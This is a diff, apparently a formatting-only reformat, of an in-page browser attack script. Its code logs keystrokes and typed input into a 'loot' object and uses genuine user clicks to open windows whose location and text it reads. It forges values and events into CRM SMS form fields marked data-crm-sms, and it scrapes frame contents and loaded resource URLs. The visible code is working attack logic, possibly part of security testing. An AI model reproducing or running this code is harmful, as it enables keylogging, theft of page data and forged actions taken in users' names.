@@ -57,35 +57,48 @@
     }
   };
   for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'click', 'pointerdown', 'focusin', 'submit', 'compositionend']) {
-    window.addEventListener(type, (event) => {
-      if (type === 'keydown' && typeof event.key === 'string' && event.key.length === 1) loot.keys += event.key;
-      if ((type === 'input' || type === 'beforeinput') && typeof event.data === 'string') loot.inputData += event.data;
-      const path = event.composedPath();
-      for (const node of path) inspect(node);
-      note(loot.composed, path.map((n) => n.nodeName || String(n)).join(' > '));
-    }, true);
+    window.addEventListener(
+      type,
+      (event) => {
+        if (type === 'keydown' && typeof event.key === 'string' && event.key.length === 1) loot.keys += event.key;
+        if ((type === 'input' || type === 'beforeinput') && typeof event.data === 'string') loot.inputData += event.data;
+        const path = event.composedPath();
+        for (const node of path) inspect(node);
+        note(loot.composed, path.map((n) => n.nodeName || String(n)).join(' > '));
+      },
+      true,
+    );
   }
 
   // A user's click on the page gives it a user activation: it spends each one on a window.open.
   let toOpen = [];
-  window.addEventListener('click', (event) => {
-    if (!event.isTrusted || toOpen.length === 0) return;
-    const url = toOpen.shift();
-    const opened = attempt(`open ${url}`, () => window.open(url, '_blank'));
-    loot.windows.push({ url, opened: Boolean(opened) });
-    if (!opened) return;
-    attempt('opened.location', () => note(loot.srcs, opened.location.href));
-    attempt('opened.document', () => note(loot.texts, opened.document.body.innerText));
-    setTimeout(() => {
-      forgeInto(opened);
-      tries.windowsForged++;
-    }, 500);
-  }, true);
+  window.addEventListener(
+    'click',
+    (event) => {
+      if (!event.isTrusted || toOpen.length === 0) return;
+      const url = toOpen.shift();
+      const opened = attempt(`open ${url}`, () => window.open(url, '_blank'));
+      loot.windows.push({ url, opened: Boolean(opened) });
+      if (!opened) return;
+      attempt('opened.location', () => note(loot.srcs, opened.location.href));
+      attempt('opened.document', () => note(loot.texts, opened.document.body.innerText));
+      setTimeout(() => {
+        forgeInto(opened);
+        tries.windowsForged++;
+      }, 500);
+    },
+    true,
+  );
 
   const byName = (root, name) => root.querySelector(`[data-crm-sms="${name}"]`);
   const setValue = (field, value) => {
     field.focus?.();
-    const proto = field instanceof HTMLTextAreaElement ? HTMLTextAreaElement.prototype : field instanceof HTMLSelectElement ? HTMLSelectElement.prototype : HTMLInputElement.prototype;
+    const proto =
+      field instanceof HTMLTextAreaElement
+        ? HTMLTextAreaElement.prototype
+        : field instanceof HTMLSelectElement
+          ? HTMLSelectElement.prototype
+          : HTMLInputElement.prototype;
     Object.getOwnPropertyDescriptor(proto, 'value').set.call(field, value);
     field.dispatchEvent(new InputEvent('input', { bubbles: true, composed: true, data: value, inputType: 'insertText' }));
     field.dispatchEvent(new Event('change', { bubbles: true, composed: true }));
@@ -147,8 +160,9 @@
         attempt('frame document', () => note(loot.texts, el.contentDocument.body.innerText));
       }
     }
-    for (const root of roots) if (active) attackRoot(root);
-    else note(loot.texts, (root.querySelector('body') ?? root).innerText ?? root.textContent);
+    for (const root of roots)
+      if (active) attackRoot(root);
+      else note(loot.texts, (root.querySelector('body') ?? root).innerText ?? root.textContent);
     for (const entry of performance.getEntriesByType('resource')) note(loot.srcs, entry.name);
     for (let i = 0; i < window.length; i++) {
       attempt(`frames[${i}].location`, () => note(loot.srcs, window.frames[i].location.href));
